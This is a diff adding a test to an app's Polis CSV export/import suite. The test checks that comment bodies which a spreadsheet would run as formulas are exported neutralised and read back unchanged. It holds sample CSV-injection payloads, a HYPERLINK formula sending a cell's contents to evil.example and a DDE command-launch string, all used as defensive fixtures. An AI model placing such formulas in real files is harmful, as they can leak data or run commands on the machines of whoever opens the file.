@@ -1,8 +1,9 @@
 import fs from 'node:fs';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { count, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { conversations } from '../db/schema/index.ts';
+import { conversations, statements } from '../db/schema/index.ts';
 import { startTestApp, type TestApp } from '../../test/helpers/app.ts';
 import { makeMember, makeTree, type TestMember, type Tree } from '../../test/helpers/factories.ts';
 
@@ -92,6 +93,37 @@ describe('Polis export and import', () => {
     const report = analysis.json<{ method: string; participants: unknown[]; commonGround: string[] }>();
     expect(report.method).toBe('broadchurch');
     expect(report.participants.length).toBe(a.imported.participants);
+  });
+
+  it('statements a spreadsheet would run as formulas are exported neutralised, and re-import as written', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+    ];
+    const comments = [
+      'timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body',
+      ...hostile.map((text, i) => `0,x,${i},,0,0,1,"${text.replaceAll('"', '""')}"`),
+    ].join('\n');
+    const votes = 'timestamp,datetime,comment-id,voter-id,vote\n1,x,0,1,1\n';
+    const imported = await importFiles({ 'comments.csv': comments, 'votes.csv': votes });
+    expect(imported.statusCode).toBe(201);
+    const id = imported.json<Imported>().conversation.id;
+    const exported = (await exportAll(id))['comments.csv'] ?? '';
+    const bodies = (parse(exported, { from_line: 2 }) as string[][]).map((row) => row.at(-1) ?? '');
+    // Every body begins with an apostrophe: no cell starts a formula.
+    expect(bodies).toHaveLength(4);
+    for (const b of bodies) expect(b).toMatch(/^'[=+\-@]/);
+    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    // Imported again, the statements read as they were written.
+    const again = await importFiles({ 'comments.csv': exported, 'votes.csv': votes });
+    const second = again.json<Imported>().conversation.id;
+    const texts = await t.database.db
+      .select({ text: statements.text })
+      .from(statements)
+      .where(eq(statements.conversationId, second));
+    expect(texts.map((x) => x.text).sort()).toEqual([...hostile].sort());
   });
 
   it('a bad row is reported with its file and line, and nothing is written', async () => {
